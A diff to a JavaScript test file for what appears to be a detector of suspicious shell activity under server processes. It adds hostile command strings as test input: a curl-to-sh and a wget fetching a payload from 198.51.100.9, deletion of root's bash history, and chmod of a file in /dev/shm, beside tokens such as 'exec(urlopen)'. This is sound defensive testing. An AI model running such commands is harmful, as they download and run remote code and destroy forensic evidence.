@@ -110,6 +110,17 @@ test('answers no event without a needle, and never throws', () => {
     rm ~/.bash_history ln /dev/null base64 -d python3 -c exec(urlopen) cd /var/tmp https://example.com/a.json`.split(
       /\s+/,
     );
-  const answered = holdToContract(CONTEXT_ANALYZERS, words, ['nginx', 'java', 'sshd', 'postgres']);
+  const scripts = [
+    'curl -s http://198.51.100.9/kx | sh',
+    'wget -O /tmp/kx http://198.51.100.9/kx',
+    'rm -f /root/.bash_history',
+    'chmod +x /dev/shm/a',
+  ];
+  const byNeedle = CONTEXT_ANALYZERS.filter(({ id }) => id !== 'shell_under_server');
+  const answered = holdToContract(
+    byNeedle,
+    [...words, ...scripts, ...scripts, ...scripts],
+    ['nginx', 'java', 'sshd', 'postgres'],
+  );
   assert.ok(answered > 100, `${answered} answers`);
 });
